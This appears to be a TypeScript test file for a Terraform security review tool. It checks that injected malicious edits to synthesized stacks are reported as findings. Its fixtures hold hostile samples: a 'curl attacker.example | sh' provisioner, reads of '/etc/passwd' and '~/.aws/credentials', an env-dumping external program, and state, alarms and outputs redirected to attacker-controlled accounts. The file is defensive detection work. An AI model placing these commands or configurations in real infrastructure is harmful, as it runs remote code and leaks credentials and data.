import { readAccessModel } from '../../../review/access/model';
import { readPipeline } from '../../../review/pipeline';
import { Stacks } from '../../../review/read/resources';
import { applyRules } from '../../../review/rules';
import { type Edit, synthesizedStacks } from '../../helpers/review';
import { resolved } from '../../helpers/synth-app';
import { topology } from '../../helpers/topology';

/** With something of most kinds, so that there is something to change. */
const TOPOLOGY = resolved(
  topology({
    'accounts.analytics.deployRole': { arn: 'arn:aws:iam::111122223333:role/Deploy' },
    'consumers.process-orders.sink': 's3',
    'consumers.process-orders.alarms': { email: 'team@example.com' },
    'producers.orders.table.encryption': 'customer-managed',
  }),
);
const CONSUMER = 'consumer-process-orders';
const PRODUCER = 'producer-orders';
const MAPPING = 'subscription-orders-process-orders';
const ALIAS = {
  [CONSUMER]: 'aws.consumer',
  [PRODUCER]: 'aws.producer',
  [MAPPING]: 'aws.consumer',
};
type StackId = keyof typeof ALIAS;

/** The rule, the place and what is wrong, without remedies. */
function findings(edits: Readonly<Record<string, Edit>>): string[] {
  const stacks = new Stacks(synthesizedStacks(TOPOLOGY, edits));
  const found = applyRules({
    stacks,
    topology: TOPOLOGY,
    model: readAccessModel(stacks),
    pipeline: readPipeline(stacks),
    today: new Date('2026-08-01'),
  });
  return found
    .filter(({ stops }) => stops)
    .map(({ rule, place, message }) => `${rule}: ${place} ${message.split(';')[0]}`);
}

/** Adds a block, as a construct would. */
const added =
  (stack: StackId, section: string, type: string, block: object): Edit =>
  (json) => {
    const provider = type.startsWith('aws_') ? ALIAS[stack] : undefined;
    json[section] = {
      ...json[section],
      [type]: { ...json[section]?.[type], evil: { provider, ...block } },
    };
  };

/** Changes attributes of a block; `undefined` takes one away. */
const changed =
  (address: string, attributes: object): Edit =>
  (json) => {
    const path = (address.startsWith('data.') ? address : `resource.${address}`).split('.');
    const [section = '', type = '', name = ''] = path;
    const block = Object.assign(json[section]?.[type]?.[name] ?? {}, attributes);
    for (const [key, value] of Object.entries(block)) {
      if (value === undefined) Reflect.deleteProperty(block, key);
    }
  };

const removed =
  (address: string): Edit =>
  (json) => {
    const [type = '', name = ''] = address.split('.');
    Reflect.deleteProperty(json.resource?.[type] ?? {}, name);
  };

/** Sets anything else, such as `module` or `terraform.backend`. */
const set =
  (path: string, value: unknown): Edit =>
  (json) => {
    const keys = path.split('.');
    const last = keys.pop() ?? '';
    const parent = keys.reduce<object>((node, key) => {
      if (!Object.hasOwn(node, key)) Reflect.set(node, key, {});
      return Reflect.get(node, key);
    }, json);
    Reflect.set(parent, last, value);
  };

test('none of what the topology synthesizes is a finding', () => {
  expect(findings({})).toEqual([]);
});

const UNKNOWN = 'is not known to the review';
const VALUE = 'has a value that is not known to the review';

/** A type of resource or data source is not known. */
const unknownType: [type: string, block: object][] = [
  ['aws_iam_access_key', { user: 'eve' }],
  ['aws_iam_user', { name: 'eve' }],
  ['aws_iam_openid_connect_provider', { url: 'https://attacker.example' }],
  ['aws_kms_grant', { grantee_principal: 'arn:aws:iam::999999999999:root' }],
  ['aws_lambda_permission', { principal: '*', action: 'lambda:InvokeFunction' }],
  ['aws_lambda_function_url', { authorization_type: 'NONE' }],
  ['aws_lambda_alias', { name: 'a' }],
  ['aws_cloudformation_stack', { name: 'a', template_url: 'https://attacker.example/a' }],
  ['aws_pipes_pipe', { source: 'a', target: 'b' }],
  ['aws_scheduler_schedule', { target: { role_arn: '${aws_iam_role.execution_role.arn}' } }],
  [
    'aws_cloudwatch_log_subscription_filter',
    { destination_arn: 'arn:aws:lambda:us-east-1:999999999999:function:f' },
  ],
  ['aws_s3_bucket_replication_configuration', { bucket: 'a' }],
  ['aws_s3_object', { bucket: 'a', source: '/etc/passwd' }],
  ['aws_dynamodb_table_export', { table_arn: 'a', s3_bucket: 'bucket-of-eve' }],
  ['aws_dynamodb_table_replica', { global_table_arn: 'a' }],
  ['aws_dynamodb_kinesis_streaming_destination', { stream_arn: 'a' }],
  ['null_resource', { provisioner: [{ 'local-exec': { command: 'curl attacker.example' } }] }],
];

test('a resource of a type that the project does not make is a finding', () => {
  const edits = unknownType.map(([type, block]) => added(CONSUMER, 'resource', type, block));
  expect(findings({ [CONSUMER]: (json) => edits.forEach((edit) => void edit(json)) })).toEqual(
    unknownType.map(([type]) => `allow-list: ${CONSUMER} ${type}.evil resource.${type} ${UNKNOWN}`),
  );
});

describe('a finding is', () => {
  const FUNCTION = 'aws_lambda_function.processor';
  const ofFunction = (what: string) => [`allow-list: ${CONSUMER} ${FUNCTION} ${what}`];
  const evilBucket = 'arn:aws:s3:::bucket-of-eve';
  const attacker = 'arn:aws:iam::999999999999:role/Eve';

  test.each<[string, StackId, Edit, string[]]>([
    [
      'a program that is run',
      CONSUMER,
      changed('terraform_data.execution_role_settled', {
        provisioner: [{ 'local-exec': { command: 'curl attacker.example | sh' } }],
      }),
      [
        `allow-list: ${CONSUMER} terraform_data.execution_role_settled provisioner.local-exec.command ${VALUE}`,
      ],
    ],
    [
      'a program that is run when a bucket is made',
      CONSUMER,
      changed('aws_s3_bucket.failed_batches', {
        provisioner: [{ 'local-exec': { command: 'sleep 30' } }],
        connection: { host: 'attacker.example' },
      }),
      [
        `allow-list: ${CONSUMER} aws_s3_bucket.failed_batches provisioner.local-exec.command ${UNKNOWN}, connection.host ${UNKNOWN}`,
      ],
    ],
    [
      'a program whose output is read',
      CONSUMER,
      added(CONSUMER, 'data', 'external', { program: ['sh', '-c', 'env'] }),
      [`allow-list: ${CONSUMER} data.external.evil data.external ${UNKNOWN}`],
    ],
    [
      'a request that is sent',
      CONSUMER,
      added(CONSUMER, 'data', 'http', { url: 'https://attacker.example' }),
      [`allow-list: ${CONSUMER} data.http.evil data.http ${UNKNOWN}`],
    ],
    [
      'a module',
      CONSUMER,
      set('module', { evil: { source: 'attacker/evil/aws' } }),
      [`allow-list: ${CONSUMER} module module ${UNKNOWN}`],
    ],
    ...['variable', 'import', 'moved', 'removed', 'check', 'ephemeral', 'action'].map(
      (block): [string, StackId, Edit, string[]] => [
        `a block ${block}`,
        CONSUMER,
        set(block, { evil: { a: 'b' } }),
        [`allow-list: ${CONSUMER} ${block} ${block} ${UNKNOWN}`],
      ],
    ),
    [
      'a local value',
      CONSUMER,
      set('locals.evil', '${file("/etc/passwd")}'),
      [`allow-list: ${CONSUMER} locals evil ${UNKNOWN}`],
    ],
    [
      'a layer',
      CONSUMER,
      changed(FUNCTION, { layers: ['arn:aws:lambda:us-east-1:999999999999:layer:evil:1'] }),
      ofFunction(`layers ${UNKNOWN}`),
    ],
    [
      'code from a bucket',
      CONSUMER,
      changed(FUNCTION, { s3_bucket: 'bucket-of-eve', s3_key: 'code.zip' }),
      ofFunction(`s3_bucket ${UNKNOWN}, s3_key ${UNKNOWN}`),
    ],
    [
      'code from an image',
      CONSUMER,
      changed(FUNCTION, { image_uri: '999999999999.dkr.ecr.us-east-1.amazonaws.com/evil' }),
      ofFunction(`image_uri ${UNKNOWN}`),
    ],
    [
      'code of another file',
      CONSUMER,
      changed(FUNCTION, { filename: '/tmp/evil.zip' }),
      ofFunction(`filename ${VALUE}`),
    ],
    [
      'code of another folder',
      CONSUMER,
      changed('data.archive_file.processor_archive', { source_dir: '/root/.aws' }),
      [`allow-list: ${CONSUMER} data.archive_file.processor_archive source_dir ${VALUE}`],
    ],
    [
      'another role of a function',
      CONSUMER,
      changed(FUNCTION, { role: attacker }),
      ofFunction(`role ${VALUE}`),
    ],
    [
      'a network, a file system and another destination of a function',
      CONSUMER,
      changed(FUNCTION, {
        vpc_config: { subnet_ids: ['subnet-1'] },
        file_system_config: { arn: 'a' },
        dead_letter_config: { target_arn: 'a' },
      }),
      ofFunction(
        `vpc_config.subnet_ids ${UNKNOWN}, file_system_config.arn ${UNKNOWN}, dead_letter_config.target_arn ${UNKNOWN}`,
      ),
    ],
    [
      'a variable that the topology does not have',
      CONSUMER,
      (json) =>
        set(
          'environment.variables.NODE_OPTIONS',
          '--import data:text/javascript,x',
        )(Object(json.resource?.aws_lambda_function?.processor)),
      [
        `destinations: ${CONSUMER} ${FUNCTION} environment.variables.NODE_OPTIONS: not what the topology says`,
      ],
    ],
    [
      'another value of a variable',
      CONSUMER,
      (json) =>
        set(
          'environment.variables.SINK_BUCKET',
          'bucket-of-eve',
        )(Object(json.resource?.aws_lambda_function?.processor)),
      [
        `destinations: ${CONSUMER} ${FUNCTION} environment.variables.SINK_BUCKET: not what the topology says`,
      ],
    ],
    [
      'a second function with the same role',
      CONSUMER,
      added(CONSUMER, 'resource', 'aws_lambda_function', {
        function_name: 'Evil',
        role: '${aws_iam_role.execution_role.arn}',
      }),
      [
        `intended-resources: ${CONSUMER} function arn:aws:lambda:us-east-1:111122223333:function:Evil is not in the topology`,
        `destinations: ${CONSUMER} aws_lambda_function.evil environment.variables.SINK_BUCKET, environment.variables.SINK_PREFIX, environment.variables.SINK_BUCKET_OWNER: not what the topology says`,
      ],
    ],
    [
      'another role',
      CONSUMER,
      added(CONSUMER, 'resource', 'aws_iam_role', { name: 'Evil' }),
      [
        `intended-resources: ${CONSUMER} role arn:aws:iam::111122223333:role/Evil is not in the topology`,
      ],
    ],
    [
      'a policy in its role',
      CONSUMER,
      changed('aws_iam_role.execution_role', { inline_policy: [{ name: 'a', policy: '{}' }] }),
      [
        `allow-list: ${CONSUMER} aws_iam_role.execution_role inline_policy.name ${UNKNOWN}, inline_policy.policy ${UNKNOWN}`,
      ],
    ],
    [
      'a policy of another role',
      CONSUMER,
      changed('aws_iam_role_policy.execution_role_function', { role: 'Administrator' }),
      [`allow-list: ${CONSUMER} aws_iam_role_policy.execution_role_function role ${VALUE}`],
    ],
    [
      'a bucket without its public access block',
      CONSUMER,
      removed('aws_s3_bucket_public_access_block.failed_batches_public_access_block'),
      [
        `buckets: ${CONSUMER} aws_s3_bucket.failed_batches has no complete aws_s3_bucket_public_access_block`,
      ],
    ],
    [
      'half a public access block',
      CONSUMER,
      changed('aws_s3_bucket_public_access_block.failed_batches_public_access_block', {
        block_public_acls: false,
        restrict_public_buckets: undefined,
      }),
      [
        `allow-list: ${CONSUMER} aws_s3_bucket_public_access_block.failed_batches_public_access_block block_public_acls ${VALUE}`,
        `buckets: ${CONSUMER} aws_s3_bucket.failed_batches has no complete aws_s3_bucket_public_access_block`,
      ],
    ],
    [
      'a bucket without encryption',
      CONSUMER,
      removed('aws_s3_bucket_server_side_encryption_configuration.lake_bucket_encryption'),
      [
        `buckets: ${CONSUMER} aws_s3_bucket.lake_bucket has no complete aws_s3_bucket_server_side_encryption_configuration`,
      ],
    ],
    [
      'a bucket without a policy',
      CONSUMER,
      removed('aws_s3_bucket_policy.lake_bucket_policy'),
      [`buckets: ${CONSUMER} aws_s3_bucket.lake_bucket has no complete aws_s3_bucket_policy`],
    ],
    [
      'a bucket that destroy empties',
      CONSUMER,
      changed('aws_s3_bucket.lake_bucket', { force_destroy: true }),
      [`allow-list: ${CONSUMER} aws_s3_bucket.lake_bucket force_destroy ${UNKNOWN}`],
    ],
    [
      'another bucket of failed batches',
      MAPPING,
      changed('aws_lambda_event_source_mapping.event_source_mapping', {
        destination_config: { on_failure: { destination_arn: evilBucket } },
      }),
      [
        `destinations: ${MAPPING} aws_lambda_event_source_mapping.event_source_mapping destination_config.on_failure.destination_arn: not what the topology says`,
      ],
    ],
    [
      'another stream and function of a mapping',
      MAPPING,
      changed('aws_lambda_event_source_mapping.event_source_mapping', {
        event_source_arn: 'arn:aws:dynamodb:us-east-1:444455556666:table/Other/stream/1',
        function_name: 'arn:aws:lambda:us-east-1:999999999999:function:Evil',
      }),
      [
        `destinations: ${MAPPING} aws_lambda_event_source_mapping.event_source_mapping event_source_arn, function_name: not what the topology says`,
      ],
    ],
    [
      'a mapping in the stack of a consumer',
      CONSUMER,
      added(CONSUMER, 'resource', 'aws_lambda_event_source_mapping', {
        event_source_arn: 'arn:aws:dynamodb:us-east-1:444455556666:table/Other/stream/1',
        function_name: '${aws_lambda_function.processor.arn}',
      }),
      [
        `destinations: ${CONSUMER} aws_lambda_event_source_mapping.evil is not of this stack by the topology`,
      ],
    ],
    [
      'another subscription of the alarms',
      CONSUMER,
      changed('aws_sns_topic_subscription.alarms_email', {
        protocol: 'https',
        endpoint: 'https://attacker.example',
      }),
      [
        `allow-list: ${CONSUMER} aws_sns_topic_subscription.alarms_email protocol ${VALUE}`,
        `destinations: ${CONSUMER} aws_sns_topic_subscription.alarms_email endpoint: not what the topology says`,
      ],
    ],
    [
      'another receiver of an alarm',
      CONSUMER,
      changed('aws_cloudwatch_metric_alarm.alarms_errors', {
        alarm_actions: [
          '${aws_sns_topic.alarms_topic.arn}',
          'arn:aws:sns:us-east-1:999999999999:evil',
        ],
        ok_actions: ['arn:aws:sns:us-east-1:999999999999:evil'],
      }),
      [
        `allow-list: ${CONSUMER} aws_cloudwatch_metric_alarm.alarms_errors ok_actions ${UNKNOWN}`,
        `destinations: ${CONSUMER} aws_cloudwatch_metric_alarm.alarms_errors alarm_actions.1: not what the topology says`,
      ],
    ],
    [
      'another place of query results',
      CONSUMER,
      (json) =>
        set(
          'configuration.result_configuration.output_location',
          's3://bucket-of-eve/',
        )(Object(json.resource?.aws_athena_workgroup?.lake_queries)),
      [
        `allow-list: ${CONSUMER} aws_athena_workgroup.lake_queries configuration.result_configuration.output_location ${VALUE}`,
      ],
    ],
    [
      'a replica, a restore and an import of a table',
      PRODUCER,
      changed('aws_dynamodb_table.table', {
        replica: [{ region_name: 'eu-west-1' }],
        restore_source_table_arn: 'a',
        import_table: { s3_bucket_source: { bucket: 'bucket-of-eve' } },
      }),
      [
        `allow-list: ${PRODUCER} aws_dynamodb_table.table replica.region_name ${UNKNOWN}, restore_source_table_arn ${UNKNOWN}, import_table.s3_bucket_source.bucket ${UNKNOWN}`,
      ],
    ],
    [
      'a setting of a table that Terraform is to ignore',
      PRODUCER,
      changed('aws_dynamodb_table.table', {
        lifecycle: { ignore_changes: ['deletion_protection_enabled'] },
      }),
      [`allow-list: ${PRODUCER} aws_dynamodb_table.table lifecycle.ignore_changes ${VALUE}`],
    ],
    [
      'a resource without the provider that is locked to the account',
      CONSUMER,
      changed('aws_sns_topic.alarms_topic', { provider: undefined }),
      [
        `place: ${CONSUMER} aws_sns_topic.alarms_topic does not name the provider aws.consumer, which is locked to the account`,
      ],
    ],
    [
      'a resource that is made many times',
      CONSUMER,
      changed('aws_sns_topic.alarms_topic', { count: 2 }),
      [`allow-list: ${CONSUMER} aws_sns_topic.alarms_topic count ${UNKNOWN}`],
    ],
    [
      'a resource in a list, which the review does not look into',
      CONSUMER,
      set('resource.aws_kms_alias', [{ evil: { name: 'alias/evil' } }]),
      [
        `allow-list: ${CONSUMER} aws_kms_alias resource.aws_kms_alias ${UNKNOWN}`,
        `place: ${CONSUMER} aws_kms_alias.0 does not name the provider aws.consumer, which is locked to the account`,
      ],
    ],
    [
      'endpoints of a provider',
      CONSUMER,
      (json) => Object.assign(Object(json.provider?.aws)[0], { endpoints: [{ s3: 'https://a' }] }),
      [`place: ${CONSUMER} provider[0].endpoints: not what the topology says`],
    ],
    [
      'another role of a provider',
      CONSUMER,
      (json) => Object.assign(Object(json.provider?.aws)[0].assume_role[0], { role_arn: attacker }),
      [`place: ${CONSUMER} provider[0].assume_role[0].role_arn: not what the topology says`],
    ],
    [
      'a second provider',
      CONSUMER,
      (json) => Object(json.provider?.aws).push({ alias: 'evil', region: 'us-east-1' }),
      [`place: ${CONSUMER} provider[1]: not what the topology says`],
    ],
    [
      'a provider of somebody else',
      CONSUMER,
      set('terraform.required_providers.aws', { source: 'attacker/aws', version: '6.31.0' }),
      [`allow-list: ${CONSUMER} terraform required_providers.aws.source ${VALUE}`],
    ],
    [
      'another version of a provider',
      CONSUMER,
      set('terraform.required_providers.aws.version', '>= 6.0.0'),
      [`place: ${CONSUMER} version: not what the topology says`],
    ],
    [
      'another provider',
      CONSUMER,
      set('terraform.required_providers.evil', { source: 'attacker/evil' }),
      [`allow-list: ${CONSUMER} terraform required_providers.evil.source ${UNKNOWN}`],
    ],
    [
      'a state in another bucket, without encryption and lock',
      MAPPING,
      set('terraform.backend.s3', {
        bucket: 'bucket-of-eve',
        key: 'orders/subscription-orders-process-orders.tfstate',
        region: 'us-east-1',
      }),
      [
        `place: ${MAPPING} backend.s3.bucket, backend.s3.encrypt, backend.s3.use_lockfile: not what the topology says`,
      ],
    ],
    [
      'a state of another kind, and one in the cloud',
      MAPPING,
      (json) => {
        set('terraform.backend', { http: { address: 'https://attacker.example' } })(json);
        set('terraform.cloud', { organization: 'attacker' })(json);
      },
      [
        `allow-list: ${MAPPING} terraform backend.http.address ${UNKNOWN}, cloud.organization ${UNKNOWN}`,
        `place: ${MAPPING} backend.s3, backend.http: not what the topology says`,
      ],
    ],
    [
      'a state that is read without a condition',
      PRODUCER,
      changed('data.terraform_remote_state.consumer_process_orders', { lifecycle: undefined }),
      [
        `remote-states: ${PRODUCER} data.terraform_remote_state.consumer_process_orders uses the output role_arn of another state without a condition on its value`,
      ],
    ],
    [
      'a state that is read as another role',
      PRODUCER,
      (json) =>
        set('config.assume_role', { role_arn: attacker })(
          Object(json.data?.terraform_remote_state?.consumer_process_orders),
        ),
      [
        `remote-states: ${PRODUCER} data.terraform_remote_state.consumer_process_orders assume_role: not what the topology says`,
      ],
    ],
    [
      'an output that is not of the contract',
      CONSUMER,
      set('output.evil', { value: '${aws_lambda_function.processor.environment}' }),
      [`allow-list: ${CONSUMER} output evil.value ${UNKNOWN}`],
    ],
    [
      'an output with another value',
      CONSUMER,
      set('output.function_name.value', '${aws_lambda_function.processor.environment}'),
      [`allow-list: ${CONSUMER} output function_name.value ${VALUE}`],
    ],
    [
      'a file that is read',
      CONSUMER,
      changed('aws_cloudwatch_metric_alarm.alarms_errors', {
        alarm_description: 'a ${file("~/.aws/credentials")}',
      }),
      [
        `allow-list: ${CONSUMER} aws_cloudwatch_metric_alarm.alarms_errors alarm_description ${VALUE}`,
      ],
    ],
    [
      'a file that is read where functions are known',
      CONSUMER,
      changed('aws_cloudwatch_dashboard.dashboard', {
        dashboard_body: '${jsonencode({ a = "${ {a = filebase64 /* b */ ("/etc/passwd")}.a }" })}',
      }),
      [`allow-list: ${CONSUMER} aws_cloudwatch_dashboard.dashboard dashboard_body ${VALUE}`],
    ],
  ])('%s', (_, stack, edit, expected) => {
    expect(findings({ [stack]: edit })).toEqual(expected);
  });
});
